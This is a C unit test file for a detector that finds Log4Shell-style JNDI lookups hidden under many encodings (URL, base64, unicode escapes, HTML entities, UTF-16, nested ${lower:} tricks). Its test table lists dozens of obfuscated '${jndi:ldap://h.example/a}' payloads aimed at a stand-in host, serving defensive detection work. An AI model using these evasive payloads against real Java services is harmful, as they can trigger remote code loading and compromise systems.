/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "detect/resolve.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

static struct config *config;
static struct scan *scan;
static struct resolver *resolver;

static int set_up(void **state)
{
    struct complaint why = {{0}};

    (void)state;
    config = config_new();
    scan = scan_new(&why);
    assert_non_null(config);
    assert_non_null(scan);
    resolver = resolver_new(config, scan);
    assert_non_null(resolver);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    resolver_free(resolver);
    scan_free(scan);
    config_free(config);
    return 0;
}

struct found {
    unsigned n, layers;
    char names[512];
};

static void on_resolved(void *arg, const struct resolved *r)
{
    struct found *f = arg;
    size_t used = strlen(f->names);

    assert_true(used + r->hit->name.len + 2 < sizeof f->names);
    if (used)
        strcat(f->names, " ");
    strncat(f->names, (const char *)r->hit->name.p, r->hit->name.len);
    f->layers |= r->layers;
    f->n++;
    assert_true(r->hit->from <= r->hit->to && r->hit->to <= r->decoded.len);
}

#define NAME "ldap://h.example/a"

static const struct {
    enum field_coding coding;
    const char *text, *names;
} rows[] = {
    {FIELD_PLAIN, "${jndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "%24%7Bjndi:ldap://h.example/a%7D", NAME},
    {FIELD_PLAIN, "$%7Bjndi:ldap://h.example/a%7D", NAME},
    {FIELD_PLAIN, "${${env:X:-j}n${lower:D}i:ldap%3a//h.example/a}", NAME},
    {FIELD_PLAIN, "%252524%25257Bjndi%25253Aldap://h.example/a%25257D", NAME},
    {FIELD_PLAIN, "%25252525252524%2525252525257Bjndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "\\u0024\\u007bjndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "%5Cu0024%5Cu007bjndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "\\44{jndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "&#36;&#123;jndi&#x3a;ldap://h.example/a&#125;", NAME},
    {FIELD_PLAIN, "&dollar;&lbrace;jndi&colon;ldap://h.example/a&rbrace;", NAME},
    {FIELD_PLAIN, "%c0%a4%7bjndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "\357\274\204\357\275\233jndi:ldap://h.example/a\357\275\235", NAME},
    {FIELD_PLAIN, "Basic JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA==", NAME},
    {FIELD_URI, "/a?q=%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D&r=1", NAME},
    {FIELD_URI, "/$%7Bjndi:ldap://h.example/a%7D", NAME},
    {FIELD_FORM, "user=x&pass=%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", NAME},
    {FIELD_FORM, "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D=x", NAME},
    {FIELD_JSON, "{\"a\":\"\\u0024\\u007bjndi:ldap:\\/\\/h.example\\/a}\"}", NAME},
    {FIELD_JSON, "{\"a\":\"$${jndi:ldap://h.example/a}\",\"b\":\"${x}\"}", NAME},
    {FIELD_JSON, "{\"one-${jnd${a\":\"a:-i}:ld${\",\"two\":\"o:-a}p://h.example/a}\"}", NAME},
    {FIELD_XML, "<a>&#36;{jndi:ldap://h.example/a}</a>", NAME},
    {FIELD_PLAIN, "${ never closed\r\nX: ${jndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "${jndi:ldap://h.example/a} and ${jndi:rmi://k/b}", NAME " rmi://k/b"},
    {FIELD_PLAIN, "{\"a\":\"${\\u006andi:ldap://h.example/a}\"}", NAME}, /* JSON under a wrong label */
    {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},               /* nothing here undoes an escape */
    {FIELD_PLAIN, "${jn%64i:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "${jndi:ldap%3a//h.example/a}", NAME},
    {FIELD_PLAIN, "${jndi:nis://h/%41}", "nis://h/%41"},
    {FIELD_PLAIN, "=24=7Bjndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "${jn=\r\ndi:ldap://h.example/a}", NAME},
    {FIELD_PLAIN, "=?utf-8?Q?=24=7Bjndi=3Aldap://h.example/a=7D?=", NAME},
    {FIELD_PLAIN, "=?utf-8?B?JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=?=", NAME},
    {FIELD_PLAIN, "+ACQAew-jndi:ldap://h.example/a+AH0-", NAME},
    {FIELD_PLAIN, "id=247b6a6e64693a6c6461703a2f2f682e6578616d706c652f617d", NAME},
    {FIELD_PLAIN, "a247B6A6E64693A6C6461703A2F2F682E6578616D706C652F617D", NAME},
    {FIELD_PLAIN, "JAB7AGoAbgBkAGkAOgBsAGQAYQBwADoALwAvAGgALgBlAHgAYQBtAHAAbABlAC8AYQB9AA==", NAME},
    {FIELD_PLAIN, "token=eyJ4IjoiXHUwMDI0XHUwMDdiam5kaTpsZGFwOi8vaC5leGFtcGxlL2F9In0", NAME},
    {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a%3bx}", "ldap://h/a;x"},
    {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a;x}", "ldap://h/a;x"},
    {FIELD_PLAIN, "${jndi:ldap://h/%41}", "ldap://h/%41"},
    {FIELD_URI, "/${jndi:ldap://h/%41}", "ldap://h/A"},
    /* JSON and XML as values of something else */
    {FIELD_FORM, "d=%7B%22x%22:%22$%7B%22,%22y%22:%22$%7Bjndi%5Cu003aldap://h.example/a%7D%22%7D", NAME},
    {FIELD_FORM, "d=%3Ca%3E$%7Bjndi%26%2358;ldap://h.example/a%7D%3C/a%3E", NAME},
    {FIELD_URI, "/?d=[%22$%7Bjndi%5Cu003aldap://h.example/a%7D%22]", NAME},
    {FIELD_PLAIN, "--B\r\n\r\n{\"x\":\"${jndi\\u003aldap://h.example/a}\"}\r\n--B--", NAME},
    {FIELD_PLAIN, "--B\r\n\r\n{\n  \"x\": \"${jndi\\u003aldap://h.example/a}\"\n}\r\n--B--", NAME},
    {FIELD_PLAIN, "--B\r\n\r\n<a>${jndi&#58;ldap://h.example/a}</a>\r\n--B--", NAME},
    /* lines that begin as JSON does */
    {FIELD_PLAIN, "{ ${\n${jndi:ldap://h.example/a}\n", NAME},
    /* a lookup over two lines of what looks binary */
    {FIELD_PLAIN, "\1\2\3\4\5${jndi:ldap://h.example/a\n}", NAME "\n"},
    /* Java replaces what is no UTF-8, and reads the rest */
    {FIELD_URI, "/?x=$%7Bjnd$%7Bupper:%C4%B1%7D:ldap://h.example/a%7D%FF", NAME},
    {FIELD_PLAIN, "\377${jnd${upper:\304\261}:ldap://h.example/a}\304", NAME},
    {FIELD_PLAIN, "`${location.protocol}//${location.host}/jndi`", ""},
    {FIELD_PLAIN, "${spring.datasource.url:jdbc:mysql://db/x}", ""},
    {FIELD_PLAIN, "$${jndi:ldap://h.example/a}", ""},
    /* "$" as the length of what follows, all 36 bytes of it */
    {FIELD_PLAIN, "msg\001t\002$${jndi:ldap://h.example/a-long-name}more", "ldap://h.example/a-long-name"},
    {FIELD_PLAIN, "msg:$${jndi:ldap://h.example/a-long-name}", ""},
    {FIELD_PLAIN, "${ jndi:ldap://h.example/a}", ""},
    {FIELD_PLAIN, "${jndi:ldap://h.example/a", ""},
};

static void lookups_are_found_under_their_encodings(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct found f = {0};
        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, true, on_resolved,
                                         &f, &spent);

        assert_int_equal(found, f.n > 0);
        /* A JSON body with an escaped lookup in one value and an expression in another is inert value by
         * value, and live when it is logged whole: the whole is tried when no piece says anything. */
        if (strcmp(f.names, rows[i].names) != 0)
            fail_msg("%s: found \"%s\"", rows[i].text, f.names);
    }
}

/* While more may come, a reading that is still open keeps others from speaking too early. */
static void half_a_text_waits(void **state)
{
    struct bytes half =
        BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}"); /* "}" ends the raw reading only */
    struct found f = {0};
    bool spent;

    (void)state;
    assert_false(resolver_run(resolver, half, FIELD_JSON, false, on_resolved, &f, &spent));
    assert_true(resolver_run(resolver, half, FIELD_JSON, true, on_resolved, &f, &spent));
    f = (struct found){0};
    half = BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}/a}");
    assert_true(resolver_run(resolver, half, FIELD_JSON, false, on_resolved, &f, &spent));
    assert_string_equal(f.names, "ldap://h/a");
}

static void wide_text_is_read(void **state)
{
    static const char narrow[] = "{\"a\":\"${j\\u006edi:ldap://h/a}\"}";
    uint8_t wide[2 * sizeof narrow];
    struct found f = {0};
    bool spent;

    (void)state;
    for (size_t i = 0; i < sizeof narrow - 1; i++) {
        wide[2 * i] = (uint8_t)narrow[i];
        wide[2 * i + 1] = 0;
    }
    assert_true(resolver_run(resolver, bytes_of(wide, 2 * (sizeof narrow - 1)), FIELD_JSON, true, on_resolved,
                             &f, &spent));
    assert_string_equal(f.names, "ldap://h/a");
    assert_int_equal(f.layers, 1 << UNWRAP_UTF16 | 1 << UNWRAP_JSON);
}

/* A few wide characters in front must not hide what follows them in plain bytes. */
static void narrow_text_behind_wide_is_read(void **state)
{
    static const char text[] = "$\0{\0a\0a\0x${jndi:ldap://h/a}";
    struct found f = {0};
    bool spent;

    (void)state;
    assert_true(
        resolver_run(resolver, bytes_of(text, sizeof text - 1), FIELD_PLAIN, true, on_resolved, &f, &spent));
    assert_string_equal(f.names, "ldap://h/a");
    assert_int_equal(f.layers, 0);
}

static void layers_are_told(void **state)
{
    struct found f = {0};
    bool spent;

    (void)state;
    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, true, on_resolved, &f,
                 &spent);
    assert_int_equal(f.layers, 1 << UNWRAP_URL);
    f = (struct found){0};
    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, true,
                 on_resolved, &f, &spent);
    assert_int_equal(f.layers, 1 << UNWRAP_BASE64);
    f = (struct found){0};
    resolver_run(resolver, BYTES_LIT("${jndi:ldap://h/a}"), FIELD_URI, true, on_resolved, &f, &spent);
    assert_int_equal(f.layers, 0);
}

/* What a watcher hears, one line per event. */
static void on_reading(void *arg, enum reading_event event, unsigned taken, const char *what,
                       struct bytes text)
{
    static const char *const events[] = {"layer", "begin", "step"};

    buf_addf(arg, "%u %s %s %.*s\n", taken, events[event], what ? what : "-", (int)text.len,
             (const char *)text.p);
}

static void assert_told(const char *text, enum field_coding coding, const char *expected)
{
    struct buf told = buf_within(4096);
    struct found f = {0};
    bool spent;

    resolver_watch(resolver, on_reading, &told);
    resolver_run(resolver, bytes_str(text), coding, true, on_resolved, &f, &spent);
    resolver_watch(resolver, NULL, NULL);
    buf_add_byte(&told, '\0');
    assert_string_equal((const char *)told.p, expected);
    buf_drop(&told);
}

static void readings_are_told(void **state)
{
    (void)state;
    assert_told("${${lower:J}ndi:rmi://h/a}", FIELD_PLAIN,
                "0 begin - ${${lower:J}ndi:rmi://h/a}\n0 step lower ${jndi:rmi://h/a}\n");
    assert_told(
        "%2524{jndi:rmi://h/a}", FIELD_PLAIN,
        "0 layer url %24{jndi:rmi://h/a}\n1 layer url ${jndi:rmi://h/a}\n2 begin - ${jndi:rmi://h/a}\n");
    /* As it stands it leads nowhere; without the percent sign it does. */
    assert_told("${jndi:rmi%3a//h}", FIELD_PLAIN,
                "0 begin - ${jndi:rmi%3a//h}\n0 layer url ${jndi:rmi://h}\n1 begin - ${jndi:rmi://h}\n");
    /* What the place encodes comes off first, and stays off for what is tried after the text as it stands.
     * One piece is not tried once more as the whole. */
    assert_told("/${a:%255cu0024}", FIELD_URI,
                "0 layer url /${a:%5cu0024}\n1 begin - /${a:%5cu0024}\n0 begin - /${a:%255cu0024}\n"
                "0 layer url /${a:%5cu0024}\n1 layer url /${a:\\u0024}\n2 begin - /${a:\\u0024}\n"
                "2 layer escape-sequence /${a:$}\n");
}

/* Long hostile texts of each coding end, and within a test's patience. */
static void hostile_texts_end(void **state)
{
    static const char *const units[] = {"%25",  "${a:",      "\\\\u0024{", "&#36;{",
                                        "JHtq", "\"${a:-\"", "=${x:&",     "%2524{"};

    (void)state;
    for (size_t i = 0; i < sizeof units / sizeof *units; i++) {
        struct buf text = buf_within(65536);
        struct found f = {0};
        bool spent;

        while (buf_add_str(&text, units[i]))
            ;
        for (unsigned coding = FIELD_PLAIN; coding <= FIELD_COOKIE; coding++)
            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, true, on_resolved, &f,
                         &spent);
        buf_drop(&text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lookups_are_found_under_their_encodings),
        cmocka_unit_test(half_a_text_waits),
        cmocka_unit_test(wide_text_is_read),
        cmocka_unit_test(narrow_text_behind_wide_is_read),
        cmocka_unit_test(layers_are_told),
        cmocka_unit_test(readings_are_told),
        cmocka_unit_test(hostile_texts_end),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
